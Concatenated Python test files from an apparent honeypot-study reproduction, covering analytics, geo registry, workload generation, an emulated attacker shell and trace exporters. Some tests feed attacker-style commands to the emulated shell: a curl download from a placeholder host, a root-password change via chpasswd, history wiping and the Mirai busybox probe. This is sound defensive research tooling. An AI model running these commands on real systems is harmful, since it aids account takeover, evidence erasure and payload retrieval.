        analytics = StreamingAnalytics()
        assert analytics.session_count() == 0
        assert analytics.category_shares() == {
            cat: 0.0 for cat in ("NO_CRED", "FAIL_LOG", "NO_CMD",
                                 "CMD", "CMD_URI")}
        assert analytics.sessions_per_day(3).tolist() == [0, 0, 0]
        assert analytics.sessions_per_day().tolist() == []
        assert analytics != object()

    def test_replay_emits_bare_download_for_hashless_uri_session(self):
        from repro.store.records import SessionRecord
        from repro.store.store import StoreBuilder

        builder = StoreBuilder()
        builder.append(SessionRecord(
            start_time=0.0, duration=8.0, honeypot_id="pot-a",
            protocol="ssh", client_ip=1, client_asn=1, client_country="US",
            n_login_attempts=1, login_success=True,
            commands=("curl http://x/a",), uris=("http://x/a",)))
        events = replay_store_events(builder.build())
        downloads = [e for e in events
                     if e["kind"] == "honeypot.session.file_download"]
        assert len(downloads) == 1
        assert "shasum" not in downloads[0]["data"]
        analytics = StreamingAnalytics()
        analytics.feed_many(events)
        assert analytics.category_counts()["CMD_URI"] == 1
        assert analytics.unique_hashes() == 0.0


class TestCliSurface:
    """Smoke: the panels reach the report and monitor CLIs."""

    def test_report_streaming_panels(self, capsys):
        from repro.__main__ import main

        rc = main([
            "report", "--scale", "80000", "--seed", "17",
            "--hash-scale", "0.004", "--streaming",
        ])
        out = capsys.readouterr().out
        assert rc == 0
        assert "-- streaming analytics" in out
        assert "unique clients ~" in out
        assert "category mix:" in out
        assert "top hashes" in out

    def test_monitor_demo_panels(self, capsys):
        from repro.__main__ import main

        rc = main([
            "monitor", "--seed", "7", "--duration", "900", "--pots", "3",
        ])
        out = capsys.readouterr().out
        assert rc == 0
        assert "streaming analytics" in out
        assert "unique clients ~" in out

    def test_render_panels_deterministic(self, streaming):
        assert streaming.render_panels() == streaming.render_panels()
