"""Tests for the synthetic geo/AS registry."""

import pytest

from repro.geo.continents import (
    ALL_COUNTRIES,
    COUNTRY_CONTINENT,
    Continent,
    continent_of,
    countries_in,
    country_name,
)
from repro.geo.registry import GeoRegistry, NetworkType


class TestContinents:
    def test_known_countries(self):
        assert continent_of("CN") is Continent.ASIA
        assert continent_of("DE") is Continent.EUROPE
        assert continent_of("US") is Continent.NORTH_AMERICA
        assert continent_of("BR") is Continent.SOUTH_AMERICA
        assert continent_of("ZA") is Continent.AFRICA
        assert continent_of("AU") is Continent.OCEANIA

    def test_unknown_country_raises(self):
        with pytest.raises(KeyError):
            continent_of("XX")

    def test_country_names(self):
        assert country_name("CN") == "China"
        assert country_name("TW") == "Taiwan"

    def test_every_country_has_continent_and_name(self):
        for cc in ALL_COUNTRIES:
            assert continent_of(cc) in Continent
            assert country_name(cc)

    def test_countries_in_partition(self):
        total = sum(len(countries_in(c)) for c in Continent)
        assert total == len(ALL_COUNTRIES)

    def test_paper_client_countries_present(self):
        # The paper's headline client origins must all be modelled.
        for cc in ("CN", "IN", "US", "RU", "BR", "TW", "MX", "IR"):
            assert cc in COUNTRY_CONTINENT


class TestGeoRegistry:
    def test_register_and_lookup(self):
        registry = GeoRegistry()
        record = registry.register_as("DE", NetworkType.RESIDENTIAL)
        addr = record.prefixes[0].address_at(17)
        found = registry.lookup(addr)
        assert found is not None
        assert found.country == "DE"
        assert found.asn == record.asn
        assert found.continent is Continent.EUROPE
        assert found.network_type is NetworkType.RESIDENTIAL

    def test_lookup_unallocated(self):
        registry = GeoRegistry()
        registry.register_as("DE", NetworkType.RESIDENTIAL)
        assert registry.lookup(0) is None

    def test_disjoint_allocations(self):
        registry = GeoRegistry()
        a = registry.register_as("DE", NetworkType.RESIDENTIAL)
        b = registry.register_as("FR", NetworkType.DATACENTER)
        assert registry.country_of(a.prefixes[0].first) == "DE"
        assert registry.country_of(b.prefixes[0].first) == "FR"

    def test_multi_prefix_as(self):
        registry = GeoRegistry()
        record = registry.register_as("US", NetworkType.CLOUD, n_prefixes=3)
        assert len(record.prefixes) == 3
        for prefix in record.prefixes:
            assert registry.asn_of(prefix.first) == record.asn

    def test_asn_uniqueness(self):
        registry = GeoRegistry()
        asns = {registry.register_as("US", NetworkType.CLOUD).asn for _ in range(50)}
        assert len(asns) == 50

    def test_explicit_asn(self):
        registry = GeoRegistry()
        record = registry.register_as("JP", NetworkType.MOBILE, asn=65000)
        assert record.asn == 65000
        with pytest.raises(ValueError):
            registry.register_as("JP", NetworkType.MOBILE, asn=65000)

    def test_invalid_country_rejected(self):
        with pytest.raises(KeyError):
            GeoRegistry().register_as("XX", NetworkType.RESIDENTIAL)

    def test_relation(self):
        registry = GeoRegistry()
        de = registry.register_as("DE", NetworkType.RESIDENTIAL)
        fr = registry.register_as("FR", NetworkType.RESIDENTIAL)
        cn = registry.register_as("CN", NetworkType.RESIDENTIAL)
        de2 = registry.register_as("DE", NetworkType.DATACENTER)
        a, b = de.prefixes[0].first, fr.prefixes[0].first
        assert registry.relation(a, b) == (False, True)
        assert registry.relation(a, cn.prefixes[0].first) == (False, False)
        assert registry.relation(a, de2.prefixes[0].first) == (True, True)
        assert registry.relation(a, a) == (True, True)

    def test_relation_unallocated(self):
        registry = GeoRegistry()
        registry.register_as("DE", NetworkType.RESIDENTIAL)
        assert registry.relation(0, 0) == (False, False)

    def test_ases_in_country(self):
        registry = GeoRegistry()
        registry.register_as("DE", NetworkType.RESIDENTIAL)
        registry.register_as("DE", NetworkType.DATACENTER)
        registry.register_as("FR", NetworkType.RESIDENTIAL)
        assert len(registry.ases_in_country("DE")) == 2
        assert registry.countries() == ["DE", "FR"]

    def test_len(self):
        registry = GeoRegistry()
        registry.register_as("DE", NetworkType.RESIDENTIAL)
        assert len(registry) == 1

    def test_pool_from_record(self):
        registry = GeoRegistry()
        record = registry.register_as("DE", NetworkType.RESIDENTIAL)
        pool = record.pool()
        addr = pool.allocate_sequential()
        assert registry.country_of(addr) == "DE"
