"""Integration tests for the trace generator (shared small dataset)."""

import numpy as np
import pytest

from repro.core.classify import Category, category_shares
from repro.workload.config import CATEGORY_MIX, SSH_SHARE, ScenarioConfig
from repro.workload.generator import _daily_budgets, _rescale_schedule


class TestScenarioConfig:
    def test_defaults_derive_clients(self):
        cfg = ScenarioConfig()
        assert cfg.n_clients > 0
        assert cfg.total_sessions == int(402_000_000 * cfg.scale)

    def test_invalid_scale(self):
        with pytest.raises(ValueError):
            ScenarioConfig(scale=0)

    def test_category_mix_sums_to_one(self):
        assert sum(CATEGORY_MIX.values()) == pytest.approx(1.0)

    def test_ssh_share_table(self):
        # Weighted protocol mix reproduces the paper's 75.8% SSH overall.
        total = sum(CATEGORY_MIX[c] * SSH_SHARE[c] for c in CATEGORY_MIX)
        assert total == pytest.approx(0.758, abs=0.01)

    def test_hash_budget(self):
        cfg = ScenarioConfig(hash_scale=0.1)
        assert cfg.n_hashes_target == int(64_004 * 0.1)
        assert cfg.n_midtail_campaigns < cfg.n_hashes_target


class TestHelpers:
    def test_daily_budgets_exact_total(self):
        env = np.random.RandomState(0).rand(486)
        env /= env.sum()
        budgets = _daily_budgets(10_000, env)
        assert budgets.sum() == 10_000
        assert (budgets >= 0).all()

    def test_daily_budgets_follow_envelope(self):
        env = np.ones(10)
        env[3] = 100.0
        env /= env.sum()
        budgets = _daily_budgets(1000, env)
        assert budgets[3] > 800

    def test_rescale_schedule_noop_above_one(self):
        schedule = {1: 10, 2: 20}
        assert _rescale_schedule(schedule, 1.5) == schedule

    def test_rescale_schedule_halves(self):
        schedule = {1: 10, 2: 10}
        out = _rescale_schedule(schedule, 0.5)
        assert sum(out.values()) == 10

    def test_rescale_schedule_drops_days_when_tiny(self):
        schedule = {d: 1 for d in range(20)}
        out = _rescale_schedule(schedule, 0.1)
        assert sum(out.values()) == 2
        assert len(out) == 2

    def test_rescale_never_empty(self):
        out = _rescale_schedule({5: 100}, 0.0001)
        assert out == {5: 1}


class TestGeneratedDataset:
    def test_farm_shape(self, small_dataset):
        assert small_dataset.deployment.n_honeypots == 221
        assert small_dataset.store.n_honeypots == 221

    def test_sessions_near_budget(self, small_dataset, small_config):
        n = small_dataset.n_sessions
        assert 0.8 * small_config.total_sessions <= n <= 1.6 * small_config.total_sessions

    def test_all_days_active(self, small_dataset):
        store = small_dataset.store
        daily = np.bincount(store.day, minlength=486)
        assert (daily > 0).mean() > 0.99

    def test_category_mix_close(self, small_store):
        shares = category_shares(small_store)
        for cat, target in CATEGORY_MIX.items():
            assert shares[Category(cat)] == pytest.approx(target, abs=0.05)

    def test_ssh_share_close(self, small_store):
        assert small_store.is_ssh.mean() == pytest.approx(0.758, abs=0.05)

    def test_client_countries_stamped(self, small_store):
        assert (small_store.client_country >= 0).all()
        countries = set(small_store.countries.values())
        assert "CN" in countries

    def test_client_asns_stamped(self, small_store):
        assert (small_store.client_asn > 0).all()

    def test_durations_positive(self, small_store):
        assert (small_store.duration > 0).all()

    def test_start_times_in_window(self, small_store):
        assert small_store.start_time.min() >= 0
        assert small_store.day.max() < 486

    def test_hashes_only_on_successful_cmd_sessions(self, small_store):
        for i in range(len(small_store)):
            if small_store.hash_ids[i]:
                assert small_store.login_success[i]
                assert small_store.n_commands[i] > 0

    def test_h1_campaign_realised(self, small_dataset):
        h1 = small_dataset.campaign("H1")
        assert h1 is not None
        assert h1.primary_hash
        # H1 targets the whole farm.
        assert len(h1.honeypot_indices) == 221

    def test_mirai_family_shares_pots(self, small_dataset):
        h24 = small_dataset.campaign("H24")
        h25 = small_dataset.campaign("H25")
        assert h24 is not None and h25 is not None
        assert set(h25.honeypot_indices) <= set(h24.honeypot_indices)

    def test_campaign_hashes_in_intel(self, small_dataset):
        h1 = small_dataset.campaign("H1")
        entry = small_dataset.intel.lookup(h1.primary_hash)
        assert entry is not None
        assert entry.tag.value == "trojan"

    def test_campaign_hashes_present_in_store(self, small_dataset):
        store = small_dataset.store
        h1 = small_dataset.campaign("H1")
        assert h1.primary_hash in store.hashes

    def test_deterministic(self, small_config):
        from repro.workload import generate_dataset
        a = generate_dataset(small_config)
        b = generate_dataset(small_config)
        assert len(a.store) == len(b.store)
        assert np.array_equal(a.store.client_ip, b.store.client_ip)
        assert np.array_equal(a.store.start_time, b.store.start_time)
        assert a.store.hashes.values() == b.store.hashes.values()

    def test_envelopes_attached(self, small_dataset):
        assert set(small_dataset.envelopes) == set(CATEGORY_MIX)
