"""Tests for the emulated shell commands."""

import pytest

from repro.honeypot.filesystem import FakeFilesystem
from repro.honeypot.shell.base import default_registry
from repro.honeypot.shell.context import ShellContext
from repro.honeypot.shell.shell import EmulatedShell


@pytest.fixture
def shell():
    return EmulatedShell(ShellContext(fs=FakeFilesystem()))


def run(shell, line):
    result = shell.execute(line)
    return result.commands[0].output if result.commands else ""


class TestInfoCommands:
    def test_uname_a(self, shell):
        out = run(shell, "uname -a")
        assert "Linux" in out and "armv7l" in out

    def test_uname_bare(self, shell):
        assert run(shell, "uname") == "Linux"

    def test_uname_m(self, shell):
        assert run(shell, "uname -m") == "armv7l"

    def test_free(self, shell):
        assert "Mem:" in run(shell, "free -m")

    def test_w(self, shell):
        assert "load average" in run(shell, "w")

    def test_whoami(self, shell):
        assert run(shell, "whoami") == "root"

    def test_id(self, shell):
        assert "uid=0(root)" in run(shell, "id")

    def test_nproc(self, shell):
        assert run(shell, "nproc") == "1"

    def test_hostname(self, shell):
        assert run(shell, "hostname") == "localhost"

    def test_ps(self, shell):
        assert "PID" in run(shell, "ps aux")

    def test_env_lists_variables(self, shell):
        out = run(shell, "env")
        assert "HOME=/root" in out

    def test_history_clear(self, shell):
        assert run(shell, "history -c") == ""


class TestFileCommands:
    def test_cat_proc_cpuinfo(self, shell):
        assert "ARMv7" in run(shell, "cat /proc/cpuinfo")

    def test_cat_missing(self, shell):
        assert "No such file" in run(shell, "cat /nope")

    def test_echo(self, shell):
        assert run(shell, "echo hello world") == "hello world"

    def test_echo_e_escapes(self, shell):
        assert run(shell, r"echo -e 'a\x41b'") == "aAb"

    def test_echo_redirect_creates_file(self, shell):
        shell.execute("echo data > /tmp/f")
        assert shell.context.fs.read("/tmp/f") == b"data\n"

    def test_echo_append(self, shell):
        shell.execute("echo one > /tmp/f")
        shell.execute("echo two >> /tmp/f")
        assert shell.context.fs.read("/tmp/f") == b"one\ntwo\n"

    def test_cd_and_pwd(self, shell):
        shell.execute("cd /tmp")
        assert run(shell, "pwd") == "/tmp"

    def test_cd_missing(self, shell):
        out = run(shell, "cd /no/such/dir")
        assert "No such file" in out

    def test_mkdir(self, shell):
        shell.execute("mkdir /tmp/.ssh")
        assert shell.context.fs.is_dir("/tmp/.ssh")

    def test_ls(self, shell):
        shell.execute("echo x > /tmp/visible")
        assert "visible" in run(shell, "ls /tmp")

    def test_rm(self, shell):
        shell.execute("echo x > /tmp/f")
        shell.execute("rm /tmp/f")
        assert not shell.context.fs.exists("/tmp/f")

    def test_cp(self, shell):
        shell.execute("echo x > /tmp/src")
        shell.execute("cp /tmp/src /tmp/dst")
        assert shell.context.fs.read("/tmp/dst") == b"x\n"

    def test_mv(self, shell):
        shell.execute("echo x > /tmp/src")
        shell.execute("mv /tmp/src /tmp/dst")
        assert shell.context.fs.exists("/tmp/dst")
        assert not shell.context.fs.exists("/tmp/src")

    def test_chmod_numeric(self, shell):
        shell.execute("echo x > /tmp/bot")
        shell.execute("chmod 777 /tmp/bot")
        assert shell.context.fs.get("/tmp/bot").mode == 0o777

    def test_chmod_symbolic(self, shell):
        shell.execute("echo x > /tmp/bot")
        shell.execute("chmod +x /tmp/bot")
        assert shell.context.fs.get("/tmp/bot").mode == 0o755

    def test_grep(self, shell):
        assert "root" in run(shell, "grep root /etc/passwd")

    def test_head(self, shell):
        shell.execute("echo -e 'a\\nb\\nc' > /tmp/f")
        assert run(shell, "head -1 /tmp/f") == "a"

    def test_touch_creates(self, shell):
        shell.execute("touch /tmp/marker")
        assert shell.context.fs.exists("/tmp/marker")

    def test_dd_probe(self, shell):
        out = run(shell, "dd if=/bin/busybox bs=16 count=1")
        assert "ELF" in out


class TestControlCommands:
    def test_exit_sets_flag(self, shell):
        result = shell.execute("exit")
        assert result.exit_requested

    def test_chpasswd_writes_shadow(self, shell):
        result = shell.execute('echo "root:newpw" | chpasswd')
        assert any(c.path == "/etc/shadow" for c in result.file_changes)

    def test_passwd(self, shell):
        out = run(shell, "passwd")
        assert "updated" in out

    def test_busybox_applet_not_found(self, shell):
        # The Mirai honeypot-detection probe.
        assert run(shell, "/bin/busybox MIRAI") == "MIRAI: applet not found"

    def test_busybox_dispatch(self, shell):
        assert shell.execute("busybox echo hi").commands[0].output == "hi"

    def test_busybox_bare(self, shell):
        assert "BusyBox" in run(shell, "busybox")

    def test_export(self, shell):
        shell.execute("export HISTFILE=/dev/null")
        assert shell.context.env["HISTFILE"] == "/dev/null"

    def test_sh_dash_c(self, shell):
        result = shell.execute("sh -c 'uname -a'")
        assert "Linux" in result.commands[0].output

    def test_sh_script_execution(self, shell):
        shell.execute("echo 'uname -a' > /tmp/s.sh")
        out = run(shell, "sh /tmp/s.sh")
        assert "Linux" in out

    def test_sh_binary_rejected(self, shell):
        shell.context.fs.write("/tmp/bin", b"\x7fELF\x00\x01")
        out = run(shell, "sh /tmp/bin")
        assert "binary" in out

    def test_crontab_list(self, shell):
        assert "no crontab" in run(shell, "crontab -l")


class TestRegistry:
    def test_known_commands_present(self):
        registry = default_registry()
        for name in ("uname", "free", "wget", "echo", "chmod", "chpasswd",
                     "busybox", "cat", "tftp", "w"):
            assert registry.is_known(name), name

    def test_absolute_path_lookup(self):
        assert default_registry().is_known("/bin/busybox")

    def test_unknown_command(self):
        assert not default_registry().is_known("definitely-not-a-command")

    def test_registry_size(self):
        # The emulation covers a substantial command set.
        assert len(default_registry()) >= 60
