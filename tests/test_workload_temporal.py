"""Tests for temporal envelopes and honeypot weight vectors."""

import numpy as np
import pytest

from repro.simulation.clock import OBSERVATION_DAYS
from repro.simulation.rng import RngStream
from repro.workload.temporal import (
    DAY_SPIKE_SEP5,
    RU_EDGE_EARLY_END,
    RU_EDGE_LATE_START,
    build_envelopes,
    honeypot_weight_vectors,
    ru_edge_weight,
    sample_active_days,
)


@pytest.fixture(scope="module")
def envelopes():
    return build_envelopes(RngStream(17, "env"))


class TestEnvelopes:
    def test_all_categories(self, envelopes):
        assert set(envelopes) == {"NO_CRED", "FAIL_LOG", "NO_CMD", "CMD", "CMD_URI"}

    def test_normalised(self, envelopes):
        for env in envelopes.values():
            assert env.sum() == pytest.approx(1.0)
            assert (env >= 0).all()
            assert len(env) == OBSERVATION_DAYS

    def test_scanning_ramps_up(self, envelopes):
        env = envelopes["NO_CRED"]
        assert env[:30].mean() < env[250:280].mean()

    def test_fail_log_sep5_spike(self, envelopes):
        env = envelopes["FAIL_LOG"]
        baseline = np.median(env)
        assert env[DAY_SPIKE_SEP5] > 4 * baseline

    def test_no_cmd_edges_elevated(self, envelopes):
        env = envelopes["NO_CMD"]
        middle = env[RU_EDGE_EARLY_END + 30:RU_EDGE_LATE_START - 30].mean()
        assert env[:RU_EDGE_EARLY_END].mean() > 2 * middle
        assert env[RU_EDGE_LATE_START:].mean() > 2 * middle

    def test_cmd_drops_mid_2022(self, envelopes):
        env = envelopes["CMD"]
        # Intense until ~July 2022 (day ~210), then a drop.
        assert env[60:180].mean() > env[260:330].mean()

    def test_deterministic(self):
        a = build_envelopes(RngStream(17, "env"))
        b = build_envelopes(RngStream(17, "env"))
        for cat in a:
            assert np.allclose(a[cat], b[cat])


class TestRuEdgeWeight:
    def test_edges_high(self):
        assert ru_edge_weight(0) > 0.5
        assert ru_edge_weight(OBSERVATION_DAYS - 1) > 0.5

    def test_middle_low(self):
        assert ru_edge_weight((RU_EDGE_EARLY_END + RU_EDGE_LATE_START) // 2) < 0.1


class TestActiveDays:
    def test_single_day(self, envelopes):
        days = sample_active_days(RngStream(1, "d"), 100, 1, envelopes["NO_CRED"])
        assert list(days) == [100]

    def test_first_day_always_active(self, envelopes):
        days = sample_active_days(RngStream(2, "d"), 50, 10, envelopes["NO_CRED"])
        assert 50 in days

    def test_count_and_window(self, envelopes):
        days = sample_active_days(RngStream(3, "d"), 200, 20, envelopes["NO_CRED"])
        assert 1 <= len(days) <= 20
        assert days.min() >= 200
        assert days.max() < OBSERVATION_DAYS

    def test_days_sorted_unique(self, envelopes):
        days = sample_active_days(RngStream(4, "d"), 10, 50, envelopes["FAIL_LOG"])
        assert np.all(np.diff(days) > 0)

    def test_near_window_end(self, envelopes):
        days = sample_active_days(RngStream(5, "d"), OBSERVATION_DAYS - 3, 10,
                                  envelopes["CMD"])
        assert days.max() < OBSERVATION_DAYS

    def test_first_day_clamped(self, envelopes):
        days = sample_active_days(RngStream(6, "d"), OBSERVATION_DAYS + 10, 1,
                                  envelopes["CMD"])
        assert days[0] == OBSERVATION_DAYS - 1


class TestWeightVectors:
    def test_three_distinct_vectors(self):
        s, c, h = honeypot_weight_vectors(RngStream(7, "w"), 221)
        assert not np.allclose(s, c)
        assert not np.allclose(s, h)

    def test_normalised(self):
        for w in honeypot_weight_vectors(RngStream(8, "w"), 221):
            assert w.sum() == pytest.approx(1.0)
            assert (w > 0).all()

    def test_top_sets_differ(self):
        s, c, h = honeypot_weight_vectors(RngStream(9, "w"), 221)
        top_s = set(np.argsort(s)[::-1][:10].tolist())
        top_c = set(np.argsort(c)[::-1][:10].tolist())
        assert top_s != top_c

    def test_session_top10_share_near_target(self):
        s, _, _ = honeypot_weight_vectors(RngStream(10, "w"), 221)
        share = np.sort(s)[::-1][:10].sum()
        assert 0.06 < share < 0.18

    def test_skewed_spread(self):
        s, _, _ = honeypot_weight_vectors(RngStream(11, "w"), 221)
        assert s.max() / s.min() > 5

    def test_small_farm_degenerates_gracefully(self):
        s, c, h = honeypot_weight_vectors(RngStream(12, "w"), 5)
        assert len(s) == 5
        assert s.sum() == pytest.approx(1.0)
