"""Tests for the flight recorder (``repro.obs.trace``) and its exporters.

Covers the tracer itself (ring buffer, context stack, folding), schema
validation, the JSONL / timeline / Chrome exporters, the benchmark
trajectory, and the multiprocess contract: with tracing on, the sharded
generator's per-trace event sequences are identical for every worker
count (modulo shard provenance and run metadata).
"""

from __future__ import annotations

import io
import json

import pytest

from repro.obs import (
    chrome_trace_events,
    read_trace_jsonl,
    render_prometheus,
    render_timeline,
    write_trace_jsonl,
)
from repro.obs.metrics import Metrics
from repro.obs.trace import (
    Tracer,
    emit,
    emit_block,
    enabled,
    get_tracer,
    group_by_trace,
    strip_volatile,
    strip_volatile_events,
    use_tracer,
    validate_trace,
)


class TestTracer:
    def test_emit_stamps_required_fields(self):
        t = Tracer()
        event = t.emit("unit.test", trace_id="x", sim_time=3.0, foo=1)
        assert event["kind"] == "unit.test"
        assert event["trace_id"] == "x"
        assert event["ts"] == 3.0
        assert event["data"] == {"foo": 1}
        assert event["seq"] == 0
        assert isinstance(event["wall"], float)

    def test_seq_strictly_increases(self):
        t = Tracer()
        seqs = [t.emit("k")["seq"] for _ in range(5)]
        assert seqs == [0, 1, 2, 3, 4]

    def test_optional_fields_omitted_when_absent(self):
        t = Tracer()
        event = t.emit("bare")
        assert "ts" not in event
        assert "data" not in event

    def test_ring_buffer_drops_oldest(self):
        t = Tracer(capacity=4)
        for i in range(6):
            t.emit("k", n=i)
        events = t.to_list()
        assert len(events) == 4
        assert t.dropped == 2
        assert t.emitted == 6
        assert events[0]["data"] == {"n": 2}

    def test_context_supplies_trace_id(self):
        t = Tracer()
        with t.context("outer"):
            a = t.emit("k")
            with t.context("inner"):
                b = t.emit("k")
            c = t.emit("k")
        d = t.emit("k")
        assert [e["trace_id"] for e in (a, b, c, d)] == [
            "outer", "inner", "outer", None]

    def test_explicit_trace_id_beats_context(self):
        t = Tracer()
        with t.context("ctx"):
            assert t.emit("k", trace_id="mine")["trace_id"] == "mine"

    def test_mint_counts_per_scope(self):
        t = Tracer()
        assert t.mint("conn") == "conn#0"
        assert t.mint("conn") == "conn#1"
        assert t.mint("other") == "other#0"

    def test_sink_streams_jsonl(self):
        sink = io.StringIO()
        t = Tracer(sink=sink)
        t.emit("a", trace_id="x")
        t.emit("b")
        lines = [json.loads(l) for l in sink.getvalue().splitlines()]
        assert [e["kind"] for e in lines] == ["a", "b"]

    def test_fold_restamps_seq_and_attaches_shard(self):
        worker = Tracer()
        worker.emit("w.one", trace_id="t", sim_time=1.0)
        worker.emit("w.two", trace_id="t", sim_time=2.0)
        parent = Tracer()
        parent.emit("p.zero")
        n = parent.fold(worker.to_list(),
                        shard={"index": 3, "kind": "bg_cmd", "key": "bg_cmd"})
        assert n == 2
        events = parent.to_list()
        assert [e["seq"] for e in events] == [0, 1, 2]
        assert events[1]["shard"]["index"] == 3
        assert events[1]["ts"] == 1.0  # original stamps survive
        # The worker's own event objects are not mutated.
        assert "shard" not in worker.to_list()[0]


class TestCurrentTracer:
    def test_disabled_by_default(self):
        assert get_tracer() is None or True  # other tests may install one
        with use_tracer(None):
            assert not enabled()
            emit("k")  # must be a silent no-op

    def test_use_tracer_swaps_and_restores(self):
        t = Tracer()
        with use_tracer(t):
            assert get_tracer() is t
            emit("seen", trace_id="x")
            with use_tracer(None):
                assert not enabled()
                emit("silenced")
            emit_block("no_cred", 17, 40)
        assert get_tracer() is not t
        kinds = [e["kind"] for e in t.to_list()]
        assert kinds == ["seen", "generator.block"]

    def test_emit_block_names_category_day(self):
        t = Tracer()
        with use_tracer(t):
            emit_block("no_cred", 17, 40, spike=True)
        [event] = t.to_list()
        assert event["trace_id"] == "no_cred.d17"
        assert event["ts"] == 17 * 86400.0
        assert event["data"]["sessions"] == 40
        assert event["data"]["spike"] is True


class TestValidateTrace:
    def _good(self):
        t = Tracer()
        t.emit("a", trace_id="x", sim_time=1.0)
        t.emit("b", trace_id="x", sim_time=2.0)
        t.emit("c", trace_id="y", sim_time=0.5)
        return t.to_list()

    def test_valid_trace_has_no_problems(self):
        assert validate_trace(self._good()) == []

    def test_missing_required_field(self):
        events = self._good()
        del events[0]["kind"]
        assert any("kind" in p for p in validate_trace(events))

    def test_wrong_type(self):
        events = self._good()
        events[1]["seq"] = "one"
        assert any("seq" in p for p in validate_trace(events))

    def test_seq_must_strictly_increase(self):
        events = self._good()
        events[2]["seq"] = events[1]["seq"]
        assert any("not greater" in p for p in validate_trace(events))

    def test_ts_must_not_go_backwards_within_trace(self):
        events = self._good()
        events[1]["ts"] = 0.5  # trace "x" goes 1.0 -> 0.5
        problems = validate_trace(events)
        assert any("moves backwards" in p for p in problems)

    def test_ts_may_interleave_across_traces(self):
        # x@1.0, x@2.0, y@0.5 — fine: ordering is per-trace.
        assert validate_trace(self._good()) == []

    def test_bad_shard_shape(self):
        events = self._good()
        events[0]["shard"] = {"index": "zero"}
        problems = validate_trace(events)
        assert any("shard field" in p for p in problems)

    def test_unserialisable_data(self):
        events = self._good()
        events[0]["data"] = {"obj": object()}
        assert any("JSON" in p for p in validate_trace(events))

    def test_non_dict_event(self):
        assert any("not an object" in p for p in validate_trace(["nope"]))


class TestGroupingAndStripping:
    def test_group_by_trace_keeps_stream_order(self):
        t = Tracer()
        t.emit("a", trace_id="x")
        t.emit("b", trace_id="y")
        t.emit("c", trace_id="x")
        groups = group_by_trace(t.to_list())
        assert [e["kind"] for e in groups["x"]] == ["a", "c"]
        assert [e["kind"] for e in groups["y"]] == ["b"]

    def test_strip_volatile_removes_run_variant_fields(self):
        event = {"seq": 9, "wall": 123.4, "kind": "k", "trace_id": "x",
                 "ts": 1.0, "data": {"a": 1}, "shard": {"index": 0}}
        assert strip_volatile(event) == {
            "kind": "k", "trace_id": "x", "ts": 1.0, "data": {"a": 1}}


class TestTraceExporters:
    def _events(self):
        t = Tracer()
        with t.context("alpha"):
            t.emit("one", sim_time=0.0)
            t.emit("two", sim_time=10.0)
        t.emit("three", trace_id="beta", sim_time=5.0, note="hi")
        return t.to_list()

    def test_jsonl_round_trip(self, tmp_path):
        path = str(tmp_path / "t.jsonl")
        events = self._events()
        assert write_trace_jsonl(events, path) == 3
        assert read_trace_jsonl(path) == events

    def test_timeline_mentions_each_trace(self):
        text = render_timeline(self._events())
        assert "alpha" in text and "beta" in text
        assert "2 traces" in text

    def test_timeline_handles_no_stamped_events(self):
        assert "no sim-time-stamped" in render_timeline(
            [{"seq": 0, "wall": 0.0, "kind": "k"}])

    def test_chrome_trace_shapes(self):
        events = self._events()
        events[2]["shard"] = {"index": 4, "kind": "bg", "key": "bg"}
        out = chrome_trace_events(events)
        slices = [e for e in out if e["ph"] == "X"]
        instants = [e for e in out if e["ph"] == "i"]
        assert {s["name"] for s in slices} == {"alpha", "beta"}
        assert len(instants) == 3
        beta = next(s for s in slices if s["name"] == "beta")
        assert beta["pid"] == 4  # shard index becomes the pid
        alpha = next(s for s in slices if s["name"] == "alpha")
        assert alpha["ts"] == 0.0 and alpha["dur"] == pytest.approx(10e6)


class TestPrometheusExport:
    def test_sections_render(self):
        m = Metrics()
        m.inc("store.sessions_appended", 7)
        m.gauge_set("shards.count", 3)
        for v in (1.0, 2.0, 3.0):
            m.observe("lat", v)
        with m.span("generate"):
            pass
        text = render_prometheus(m)
        assert "# TYPE repro_store_sessions_appended counter" in text
        assert "repro_store_sessions_appended 7" in text
        assert "# TYPE repro_shards_count gauge" in text
        assert 'repro_lat{quantile="0.5"} 2' in text
        assert "repro_lat_sum 6" in text
        assert "repro_lat_count 3" in text
        assert "repro_span_generate_seconds" in text

    def test_names_are_sanitised(self):
        m = Metrics()
        m.inc("farm.alerts.fresh-hash")
        text = render_prometheus(m)
        assert "repro_farm_alerts_fresh_hash 1" in text

    def test_colliding_names_disambiguated(self):
        # Both sanitise to repro_a_b_c; exposing the pair untouched would
        # make Prometheus silently merge two different series.
        m = Metrics()
        m.inc("a.b-c", 1)
        m.inc("a.b_c", 2)
        text = render_prometheus(m)
        exposed = [line.split()[0] for line in text.splitlines()
                   if line and not line.startswith("#")]
        assert len(exposed) == len(set(exposed))
        assert "repro_a_b_c 1" not in text and "repro_a_b_c 2" not in text
        colliders = [n for n in exposed if n.startswith("repro_a_b_c_")]
        assert len(colliders) == 2
        for name in colliders:
            suffix = name.rsplit("_", 1)[1]
            assert len(suffix) == 6
            int(suffix, 16)  # deterministic hex digest, not a counter

    def test_collision_suffixes_stable_across_runs(self):
        m1, m2 = Metrics(), Metrics()
        for m in (m1, m2):
            m.inc("a.b-c")
            m.inc("a.b_c")
        assert render_prometheus(m1) == render_prometheus(m2)

    def test_help_lines_come_from_name_registry(self):
        from repro.obs.names import describe

        m = Metrics()
        m.inc("store.sessions_appended", 7)
        m.inc("ledger.tasks", 3)  # matches the ledger.* family pattern
        text = render_prometheus(m)
        direct = describe("counter", "store.sessions_appended")
        family = describe("counter", "ledger.tasks")
        assert direct and f"# HELP repro_store_sessions_appended {direct}" \
            in text
        assert family and f"# HELP repro_ledger_tasks {family}" in text

    def test_undeclared_name_gets_no_help_line(self):
        m = Metrics()
        m.inc("totally.undeclared.thing")
        text = render_prometheus(m)
        assert "# TYPE repro_totally_undeclared_thing counter" in text
        assert "# HELP repro_totally_undeclared_thing" not in text

    def test_empty_histogram_emits_nan_quantiles(self):
        m = Metrics()
        m.histogram("resource.task_cpu_seconds")  # registered, never fed
        text = render_prometheus(m)
        assert (
            'repro_resource_task_cpu_seconds{quantile="0.5"} NaN\n'
            'repro_resource_task_cpu_seconds{quantile="0.9"} NaN\n'
            'repro_resource_task_cpu_seconds{quantile="0.99"} NaN\n'
            "repro_resource_task_cpu_seconds_sum 0\n"
            "repro_resource_task_cpu_seconds_count 0\n"
        ) in text


class TestExporterEdgeCases:
    """Timeline / Chrome exporters on empty, single and stripped traces."""

    def _one_event(self):
        t = Tracer()
        t.emit("only", trace_id="solo", sim_time=3.0)
        return t.to_list()

    def test_timeline_empty_input(self):
        assert render_timeline([]) == "(no sim-time-stamped events to draw)"

    def test_chrome_empty_input(self):
